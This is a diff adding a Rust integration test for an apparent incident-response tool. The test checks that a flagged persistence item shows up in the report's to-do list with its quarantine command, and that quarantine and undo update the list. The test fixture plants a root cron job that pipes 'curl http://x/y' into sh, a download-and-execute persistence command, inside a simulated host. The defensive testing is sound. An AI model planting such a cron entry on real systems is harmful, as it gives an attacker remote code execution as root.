@@ -1212,3 +1212,41 @@ fn a_poisoned_soul_md_comes_back_from_git_a_baseline_or_an_earlier_bundle() {
     );
     h.ir().args(["journal", "verify"]).assert().success();
 }
+
+/// The report's to-do names each flagged item still in place with the
+/// command that removes it, and drops it once quarantined; `--undo`
+/// brings it back to the list.
+#[test]
+fn the_report_lists_each_flagged_item_still_in_place_with_its_removal_command() {
+    let h = Host::files();
+    plant(
+        &h.path("/etc/cron.d/sync"),
+        "*/5 * * * * root curl http://x/y | sh\n",
+        0o640,
+    );
+    let todo = || {
+        h.ir().args(["-q", "report"]).assert().success();
+        let r: Value =
+            serde_json::from_slice(&std::fs::read(h.case.join("report.json")).unwrap()).unwrap();
+        r["todo"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|t| t.as_str().unwrap().to_string())
+            .collect::<Vec<_>>()
+    };
+    h.ir().args(["-q", "persistence"]).assert().code(1);
+    let line = "cron /etc/cron.d/sync [download_exec]: ir quarantine /etc/cron.d/sync";
+    assert!(todo().iter().any(|t| t == line), "{:?}", todo());
+    collect_fake(&h);
+    let (code, v) = quarantine(&h, &["/etc/cron.d/sync"]);
+    assert_eq!(code, 0, "{v}");
+    assert!(
+        !todo().iter().any(|t| t.contains("/etc/cron.d/sync")),
+        "{:?}",
+        todo()
+    );
+    let id = v["quarantined"][0]["id"].as_str().unwrap().to_string();
+    assert_eq!(quarantine(&h, &["--undo", &id]).0, 0);
+    assert!(todo().iter().any(|t| t == line), "{:?}", todo());
+}
